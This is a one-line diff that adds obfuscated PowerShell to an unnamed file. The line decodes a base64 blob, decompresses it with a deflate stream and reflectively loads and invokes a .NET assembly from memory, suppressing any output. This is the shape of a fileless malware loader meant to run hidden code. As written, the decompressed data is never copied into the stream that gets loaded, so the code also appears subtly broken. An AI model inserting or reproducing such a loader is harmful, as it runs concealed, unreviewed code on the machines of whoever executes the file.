@@ -1,0 +1,1 @@
+sv o (New-Object IO.MemoryStream);sv d (New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('841ioAi4F5XmlQSXJKanFjEwZjCUAGEBgxWDPhAaMpgzGDHoAWkLIGnMYAkkLYByFgwGQI0A'),[IO.Compression.CompressionMode]::Decompress));[Reflection.Assembly]::Load((gv o).Value.ToArray()).EntryPoint.Invoke(0,@(,[string[]]@()))|Out-Null
